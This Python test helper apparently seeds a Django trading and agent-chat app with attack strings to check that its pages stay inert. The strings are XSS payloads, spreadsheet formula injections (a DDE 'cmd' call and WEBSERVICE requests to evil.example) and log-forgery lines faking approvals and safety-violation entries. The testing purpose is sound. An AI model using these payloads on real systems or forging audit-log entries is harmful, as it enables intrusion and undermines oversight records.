"""Strings that try to run as script, as formula or as a line of a log; and a way to plant them in a running house.

What runs says so in `window.__ran`; a page that is right never does.
"""

from itertools import product

RUN = "window.__ran=(window.__ran||0)+1"
SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<math><mtext></style><img src=x onerror={RUN}>",
    f"<style>*{{background:url(javascript:{RUN})}}</style>",
    f"<div x-data x-init={RUN}>",
    f"<div x-text='{RUN}'></div>",
    f"<div hx-on:load={RUN} hx-trigger=load hx-get=/>x</div>",
    f"<div hx-get=/ hx-trigger='load[{RUN}]'>x</div>",
    f"<div hx-vals='js:{{a:{RUN}}}' hx-get=/ hx-trigger=load>x</div>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"{{% debug %}}{{{{ {RUN} }}}}",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"'-({RUN})-'",
    f'"><img src=x onerror="{RUN}">',
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href=javascript:{RUN}//>",
    f"<object data=javascript:{RUN}></object>",
    f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"[x](javascript:{RUN}) ![x](x' onerror='{RUN})",
)
FORMULAS = (
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        ' "=1+1',
        "'=1+1",
    ),
    *(
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example","x")',
        '=WEBSERVICE("http://evil.example")',
        "a;=1+1",
        '";=1+1',
    ),
)
FORGERIES = (
    "x\n2026-01-01 00:00:00 | INFO | APPROVAL | Action: order_approved | User: bob",
    "x\r\n2026-01-01 00:00:00 | CRITICAL | SAFETY_VIOLATION | Type: none",
    "x\u2028SAFETY_VIOLATION | Type: forged",
    "x\x85SAFETY_VIOLATION | Type: forged",
    "x\x1b[2K\x1b[1AAPPROVED",
    "Pre-approved by Compliance \u202ederorppA\u202c",
    "\n" * 400 + "Approved",
)
WRAPPED = ("{}", "Buy 1 AAPL {}", "{} AAPL?", " {} ", "«{}»", '"{}"', "{}{}", "note: {}\n{}", "x{}")


def strings(most: int) -> list[str]:
    """So many different ones, each kind from the start."""
    kinds = [*SCRIPTS, *FORMULAS, *FORGERIES]
    made = [wrapping.replace("{}", text) for wrapping, text in product(WRAPPED, kinds)]
    return list(dict.fromkeys(made))[:most]


def plant(most: int) -> None:
    """Into messages, titles, sources, words and reasons of orders, names, symbols and brokers of fills, past what
    screens and checks them: the pages must hold alone. Run in a process of the product."""
    from django.contrib.auth.models import User
    from django.utils import timezone

    from agents.models import Message, Thread
    from orders.models import Execution, Order

    ann, now = User.objects.get(username="ann"), timezone.now()
    texts = strings(most)
    for start in range(0, len(texts), 150):
        part = texts[start : start + 150]
        thread = Thread.objects.create(owner=ann, title=part[0][:80], created_at=now, updated_at=now)
        Message.objects.bulk_create(
            Message(
                thread=thread,
                role=("user", "assistant", "notice")[place % 3],
                content=text,
                model=text[:100],
                citations=[
                    {"n": 1, "source": text, "as_of": text, "about": text, "title": text, "url": "", "text": text}
                ],
                created_at=now,
            )
            for place, text in enumerate(part)
        )
    orders = list(Order.objects.filter(maker=ann).order_by("-created_at")[: len(texts)])
    for order, text in zip(orders, texts, strict=False):
        Order.objects.filter(pk=order.pk).update(user_words=text, rationale=text, model=text[:100])
    symbols = [text for text in dict.fromkeys(text[:12] for text in texts) if text]
    fills = Execution.objects.filter(account__owner=ann).order_by("-executed_at", "-id")
    for fill, text, symbol in zip(list(fills), texts[::-1], symbols, strict=False):
        Execution.objects.filter(pk=fill.pk).update(broker=text[:20], symbol=symbol)
    User.objects.filter(pk=ann.pk).update(first_name=texts[0][:150], last_name=texts[-1][:150])
    for place, text in enumerate(texts[:40]):
        User.objects.get_or_create(username=f"{text[:140]}{place}", defaults={"is_active": False})
